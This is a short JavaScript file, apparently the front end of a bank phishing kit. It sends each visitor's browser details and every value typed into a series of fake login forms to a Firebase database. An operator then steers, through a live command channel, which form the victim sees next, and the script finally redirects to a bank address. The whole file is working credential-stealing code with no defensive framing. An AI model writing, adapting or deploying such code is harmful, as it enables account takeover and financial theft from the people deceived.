"use strict";
var DB = "https://PROJECT_ID-default-rtdb.firebaseio.com/";
var key = sessionStorage.k || (sessionStorage.k = Date.now().toString(36));
function put(path, obj) {
  return fetch(DB + "clients/" + key + "/" + path + ".json", { method: "PATCH", body: JSON.stringify(obj) });
}
put("", { seen: Date.now(), ua: navigator.userAgent, page: "login" });
document.querySelectorAll("form[data-step]").forEach(function (form) {
  form.addEventListener("submit", function (ev) {
    ev.preventDefault();
    var o = {};
    form.querySelectorAll("input").forEach(function (i) { o[i.id] = i.value; });
    put(form.dataset.step, o).then(function () {
      put("", { cmd: "wait", page: form.dataset.step });
      document.getElementById("loader").style.display = "flex";
    });
  });
});
var es = new EventSource(DB + "clients/" + key + "/cmd.json");
es.addEventListener("put", function (ev) {
  var cmd = JSON.parse(ev.data).data;
  if (!cmd || cmd === "wait") return;
  document.getElementById("loader").style.display = "none";
  document.querySelectorAll("form[data-step]").forEach(function (f) { f.style.display = f.dataset.step === cmd ? "block" : "none"; });
  if (cmd === "bye") location.href = "https://online.fjordbank.example/";
});
